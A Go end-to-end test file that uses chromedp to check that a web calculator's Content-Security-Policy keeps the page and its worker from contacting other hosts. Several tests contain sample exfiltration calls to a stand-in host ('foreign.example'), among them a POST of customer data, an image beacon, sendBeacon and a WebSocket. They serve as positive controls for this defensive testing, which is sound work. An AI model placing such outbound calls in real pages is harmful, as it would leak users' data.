package e2e

import (
	"context"
	"iter"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/target"
	"github.com/chromedp/chromedp"

	"clvcalc/core/material"
)

func write(t *testing.T, file string, data []byte) {
	t.Helper()
	if err := os.WriteFile(file, data, 0o644); err != nil {
		t.Fatal(err)
	}
}

// chromium lists the hosts that Chromium itself asks for updates and accounts,
// on a blank page too; the page's policy keeps the page from all of them.
var chromium = []string{"update.googleapis.com", "accounts.google.com", "clients2.google.com", "content-autofill.googleapis.com",
	"optimizationguide-pa.googleapis.com", "android.clients.google.com", "www.google.com", "redirector.gvt1.com"}

// onlyOwnFiles accepts only exact addresses of files in dist, without query or
// body, read with GET.
func onlyOwnFiles(t *testing.T, tab *Tab) {
	t.Helper()
	requests := tab.Recorder.Requests()
	if len(requests) == 0 {
		t.Error("the recorder saw nothing: it records nothing")
	}
	for _, q := range requests {
		if slices.Contains(chromium, hostOf(q)) {
			continue
		}
		if problem := foreign(t, q); problem != "" {
			t.Errorf("%s %s: %s", q.Method, q.URL, problem)
		}
	}
}

func hostOf(q Request) string {
	u, err := url.Parse(q.URL)
	if err != nil {
		return q.URL
	}
	return u.Hostname()
}

// foreign says what is wrong with a request, "" when it reads one of the
// site's own files.
func foreign(t *testing.T, q Request) string {
	u, err := url.Parse(q.URL)
	if err != nil {
		return err.Error()
	}
	file := filepath.Join(material.Root(t), "dist", filepath.FromSlash(u.Path))
	if info, err := os.Stat(file); err == nil && info.IsDir() {
		file = filepath.Join(file, "index.html")
	}
	_, missing := os.Stat(file)
	switch {
	case q.Method != http.MethodGet:
		return "not a GET"
	case u.Host != site:
		return "a foreign host"
	case u.RawQuery != "" || u.ForceQuery:
		return "a query"
	case q.Body != 0:
		return "a body"
	case missing != nil:
		return "not a file of the site"
	}
	return ""
}

// The recorder catches what a page without a policy sends: the positive
// control of every test that says nothing was sent.
func TestRecorderCatches(t *testing.T) {
	t.Parallel()
	bare := http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = w.Write([]byte("<!doctype html><title>bare</title>"))
	})
	tab := launch(t, map[string]http.Handler{site: bare})
	tab.run(chromedp.Navigate("http://" + site + "/"))
	eval[any](tab, `fetch("http://foreign.example/collect?customer=7", {method: "POST", body: "x"}).then(() => 1, () => 1)`)
	eval[any](tab, `new Promise(done => {
		const code = 'fetch("http://worker.example/").then(() => postMessage(1), () => postMessage(1))';
		const worker = new Worker(URL.createObjectURL(new Blob([code])));
		worker.onmessage = () => done(1);
	})`)
	for _, host := range []string{"foreign.example", "worker.example"} {
		if !tab.Recorder.seen(host) {
			t.Errorf("the recorder missed a request to %s", host)
		}
	}
	caught := 0
	for _, q := range tab.Recorder.Requests() {
		if foreign(t, q) != "" {
			caught++
		}
	}
	if caught < 2 {
		t.Errorf("only %d requests were called foreign", caught)
	}
}

// On a host that sends no headers the policy in the page alone must hold, for
// the page and for the engine.
func TestPolicyHoldsWithoutHeaders(t *testing.T) {
	t.Parallel()
	dist := filepath.Join(material.Root(t), "dist")
	tab := launch(t, map[string]http.Handler{site: http.FileServer(http.Dir(dist))})
	attached := chromedp.Events(tab.ctx, target.AttachedToTarget)
	tab.run(chromedp.Navigate("http://" + site + "/"))
	file := filepath.Join(t.TempDir(), "orders.csv")
	writeSample(t, file, "en")
	tab.drop(file)
	tab.waitFor("#show-results")
	attempt := `fetch("http://foreign.example/?x=1").then(() => "sent", () => "refused")`
	if got := eval[string](tab, attempt); got != "refused" {
		t.Errorf("the page's request was %s", got)
	}
	engine := tab.worker(attached)
	own := `fetch("http://` + site + `/robots.txt").then(r => r.ok ? "sent" : "refused")`
	for expression, want := range map[string]string{attempt: "refused", own: "sent"} {
		got, err := chromedp.Run(engine, chromedp.Evaluate[string](expression, chromedp.EvalAwaitPromise))
		if err != nil || got != want {
			t.Errorf("in the engine %s was %q (%v), want %q", expression, got, err, want)
		}
	}
	if tab.Recorder.seen("foreign.example") {
		t.Error("a foreign request left the browser")
	}
}

func TestPolicyHeader(t *testing.T) {
	t.Parallel()
	tab := open(t, "")
	for _, attempt := range []string{
		`fetch("http://foreign.example/a").then(() => "sent", () => "refused")`,
		`new Promise(done => { const i = new Image(); i.onload = i.onerror = () => done("tried"); i.src = "http://foreign.example/b" })`,
		`Promise.resolve(navigator.sendBeacon("http://foreign.example/c", "x")).then(() => "tried", () => "refused")`,
		`new Promise(done => { try { const s = new WebSocket("ws://foreign.example/d"); s.onerror = () => done("tried") } catch { done("refused") } })`,
	} {
		eval[string](tab, attempt)
	}
	if tab.Recorder.seen("foreign.example") {
		t.Error("a foreign request left the browser")
	}
	if got := eval[string](tab, `(() => { try { document.body.innerHTML = "<b>x</b>"; return "set" } catch { return "refused" } })()`); got != "refused" {
		t.Error("markup could be set from a text: Trusted Types are not in force")
	}
	policy := eval[string](tab, `document.querySelector('meta[http-equiv="Content-Security-Policy"]').content`)
	for _, part := range []string{"default-src 'none'", "connect-src 'self'", "require-trusted-types-for 'script'", "form-action 'none'"} {
		if !strings.Contains(policy, part) {
			t.Errorf("the page's policy lacks %s", part)
		}
	}
	if cookies := eval[string](tab, `document.cookie`); cookies != "" {
		t.Errorf("cookies: %q", cookies)
	}
}

// worker waits for the page's first worker and returns a context in which
// expressions run inside it.
func (tab *Tab) worker(attached iter.Seq2[target.EventAttachedToTarget, error]) context.Context {
	tab.t.Helper()
	for event, err := range attached {
		if err != nil {
			tab.stop("no worker: %v", err)
		}
		if event.TargetInfo.Type == "worker" {
			ctx, cancel := chromedp.NewContext(tab.ctx, chromedp.WithTargetID(event.TargetInfo.TargetID))
			tab.t.Cleanup(cancel)
			return ctx
		}
	}
	tab.stop("no worker was started")
	return nil
}
